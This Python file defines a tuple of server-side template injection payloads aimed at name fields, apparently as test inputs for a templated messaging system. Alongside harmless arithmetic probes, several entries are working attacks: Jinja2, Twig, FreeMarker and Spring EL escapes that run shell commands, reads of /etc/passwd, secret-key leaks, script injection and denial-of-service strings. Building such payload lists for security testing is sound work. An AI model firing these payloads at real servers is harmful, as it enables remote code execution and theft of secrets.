"""Template-injection payloads: what people put into name fields to make a server evaluate it."""

INJECTIONS: tuple[str, ...] = tuple(
    line
    for line in r"""
{{7*7}}
{{7*'7'}}
{{ 7 * 7 }}
{{7+7}}
{{-7*7-}}
{{'7'*7}}
{{"A"*3}}
{{[7]*7}}
{{7**7}}
{{ 1337 - 1 }}
{{1+1}}{{2+2}}
{%print(7*7)%}
{% print 7*7 %}
{%set x=7*7%}{{x}}
{% if 1==1 %}EVAL{% endif %}
{% for i in range(3) %}EVAL{% endfor %}
{% raw %}{{7*7}}{% endraw %}
{# comment #}EVAL{# #}
{{config}}
{{config.items()}}
{{ config.SECRET_KEY }}
{{settings.SECRET_KEY}}
{{self}}
{{self.__init__.__globals__}}
{{self._TemplateReference__context}}
{{self.__dict__}}
{{request}}
{{request.application.__globals__}}
{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}
{{request['application']['__globals__']['__builtins__']['__import__']('os')['popen']('id').read()}}
{{''.__class__}}
{{''.__class__.__mro__[1].__subclasses__()}}
{{''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read()}}
{{''|attr('__class__')}}
{{()|attr('__class__')|attr('__base__')}}
{{[].__class__.__base__.__subclasses__()}}
{{{}.__class__}}
{{dict.__base__.__subclasses__()}}
{{x.__init__.__globals__}}
{{cycler.__init__.__globals__.os.popen('id').read()}}
{{joiner.__init__.__globals__.os.popen('id').read()}}
{{namespace.__init__.__globals__.os.popen('id').read()}}
{{lipsum.__globals__['os'].popen('id').read()}}
{{lipsum()}}
{{url_for.__globals__}}
{{get_flashed_messages.__globals__}}
{{range(10)}}
{{range(1000000000)}}
{{debug()}}
{{dict(a=1)}}
{{namespace(a=1)}}
{{contact}}
{{contact.email}}
{{contact.__class__}}
{{contact.keys()}}
{{contact.items()|list}}
{{contact|items}}
{{contact|tojson}}
{{contact|pprint}}
{{contact|string}}
{{workspace}}
{{links.unsubscribe}}
{{sender.email|safe}}
{{"<script>alert(1)</script>"|safe}}
{% autoescape false %}<script>alert(1)</script>{% endautoescape %}
{% include '/etc/passwd' %}
{% include 'message.html' %}
{% import 'os' as os %}
{% from 'x' import y %}
{% extends 'message.html' %}
{% block x %}EVAL{% endblock %}
{% macro x() %}EVAL{% endmacro %}{{x()}}
{% call x() %}EVAL{% endcall %}
{% filter upper %}eval{% endfilter %}
{% with a=1 %}{{a}}{% endwith %}
{% do x.append(1) %}
{% load module %}
{% debug %}
{% csrf_token %}
{% now "Y" %}
{{ "%s"|format(7) }}
{{ "a"|replace("a","EVAL") }}
{{ "a"|indent(100000) }}
{{ "%1000000s"|format("a") }}
{{ 'a'.format(1) }}
{{ '{0.__class__}'.format(1) }}
{{ [1,2]|map('upper')|list }}
{{ [1]|batch(3)|list }}
{{ loop }}
{{ true }}
{{ none }}
${7*7}
${{7*7}}
#{7*7}
#{ 7*7 }
*{7*7}
@(7*7)
@{7*7}
~{7*7}
<%= 7*7 %>
<%= system('id') %>
<% 7*7 %>
[[${7*7}]]
[[7*7]]
{7*7}
{{{7*7}}}
{{= 7*7 }}
{{! comment }}
{{> partial}}
{{#if true}}EVAL{{/if}}
{{#with "s" as |string|}}{{string}}{{/with}}
{{constructor.constructor('return 7*7')()}}
{{$on.constructor('alert(1)')()}}
{{'a'.constructor.prototype}}
{{_self.env.registerUndefinedFilterCallback("exec")}}
{{_self.env.getFilter("id")}}
{{app.request.server.all|join(',')}}
{{['id']|filter('system')}}
{{['cat /etc/passwd']|map('passthru')}}
<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
${"freemarker.template.utility.Execute"?new()("id")}
#set($x=7*7)$x
$class.inspect("java.lang.Runtime")
${T(java.lang.Runtime).getRuntime().exec('id')}
*|FNAME|*
%%emailaddr%%
{php}echo `id`;{/php}
{system('id')}
{{"\u007b\u007b7*7\u007d\u007d"}}
&#123;&#123;7*7&#125;&#125;
&lbrace;&lbrace;7*7&rbrace;&rbrace;
%7B%7B7*7%7D%7D
""".strip().split("\n")
    if line
)
